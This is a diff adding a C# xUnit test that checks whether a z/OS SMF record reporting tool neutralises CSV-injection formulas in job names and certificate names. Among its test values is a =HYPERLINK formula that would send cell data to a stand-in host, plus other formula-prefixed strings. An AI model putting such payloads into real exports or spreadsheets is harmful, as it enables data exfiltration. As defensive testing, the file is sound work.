@@ -1,0 +1,86 @@
+using System.Globalization;
+using ZertForwarder.Generator;
+using ZertForwarder.Generator.Model;
+using ZertForwarder.Host.Tests.Support;
+using ZertForwarder.Reporting;
+using Xunit.Abstractions;
+
+namespace ZertForwarder.Host.Tests.Reporting;
+
+/// <summary>
+/// The <c>report</c> verb over records written for one question each: generated records whose models are changed
+/// (job names and DNs a spreadsheet would run, counters no real connection reaches) and written again with the
+/// generator's record writer, read by the real executable.
+/// </summary>
+public sealed class ReportCraftedRecordTests(ITestOutputHelper output) : IDisposable
+{
+    private static readonly TimeSpan RunLimit = TimeSpan.FromMinutes(2);
+    private readonly TempDirectory _work = new();
+
+    public void Dispose() => _work.Dispose();
+
+    private async Task<ForwarderResult> Report(params string[] args)
+    {
+        var result = await ForwarderProcess.RunAsync(_work.Path, ["report", .. args], RunLimit);
+        output.WriteLine(result.ToString());
+        return result;
+    }
+
+    /// <summary>Generated connection records (119-11) of z/OS as a TLS server that name both certificates.</summary>
+    private static List<ZertConnectionRecord> TlsServerConnections() => SmfDumpGenerator.GenerateRecords(7, 400, includeForeignRecords: false)
+        .Select(r => r.Connection)
+        .OfType<ZertConnectionRecord>()
+        .Where(c => c.Common.EventType == 4 && (c.Common.Flags & 0x10) != 0 && c.Tls is { ServerCertificate: not null }
+            && c.DistinguishedNames.Any(d => d.Type == 5))
+        .ToList();
+
+    private string WriteDump(string name, IEnumerable<byte[]> records)
+    {
+        var path = _work.Combine(name);
+        File.WriteAllBytes(path, records.SelectMany(r => r).ToArray());
+        return path;
+    }
+
+    /// <summary>
+    /// Job names and DNs come from the records: one that starts with =, +, - or @ is a formula to a spreadsheet that
+    /// opens the CSV file (CSV injection, e.g. =HYPERLINK(...) sending data elsewhere). The CSV files write such a text
+    /// field with a leading apostrophe, so it is shown as text; numbers stay numbers, and the page shows the value as it is.
+    /// </summary>
+    [Fact]
+    public async Task Text_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text_in_the_csv_files()
+    {
+        string[] jobs = ["=1+2", "+SUM(1)", "@CMD", "-2+3"];
+        var records = TlsServerConnections().Take(jobs.Length).Select((c, i) =>
+        {
+            c.Common.JobName = jobs[i];
+            c.Common.ConnectionId = 9_000_000u + (uint)i;
+            c.DistinguishedNames.First(d => d.Type == 5).Name = i == 0 ? "=HYPERLINK(\"http://x.example/\"&A1,\"open\")" : $"CN=server{i}";
+            return ZertRecordWriter.ToArray(c);
+        }).ToList();
+        Assert.Equal(jobs.Length, records.Count);
+        var dump = WriteDump("formulas.smf", records);
+
+        var result = await Report(dump, "--out", "r");
+        Assert.True(result.ExitCode == 0, result.ToString());
+
+        foreach (var file in CsvReport.FileNames)
+        {
+            var text = File.ReadAllText(_work.Combine("r", file));
+            foreach (var line in text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries))
+            {
+                // No field, quoted or not, starts with a formula character.
+                Assert.DoesNotMatch(@"(^|,)""?[=+\-@]", line);
+            }
+        }
+        var servers = ReportFiles.ReadCsv(_work.Combine("r", "servers.csv"));
+        Assert.Equal(jobs.Select(j => "'" + j).Order(StringComparer.Ordinal), servers.Select(s => s["job"]).Order(StringComparer.Ordinal));
+        Assert.All(servers, s => Assert.Equal(1, s.Long("connections")));
+        var sessions = ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv"));
+        Assert.Contains(sessions, s => s["server_cert_subject"] == "'=HYPERLINK(\"http://x.example/\"&A1,\"open\")");
+
+        // The page is no spreadsheet: it shows the values as they are (HTML-escaped).
+        var page = File.ReadAllText(_work.Combine("r", "report.html"));
+        Assert.Contains("<td>=1+2</td>", page, StringComparison.Ordinal);
+        Assert.Contains("<td>=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;open&quot;)</td>", page, StringComparison.Ordinal);
+    }
+}
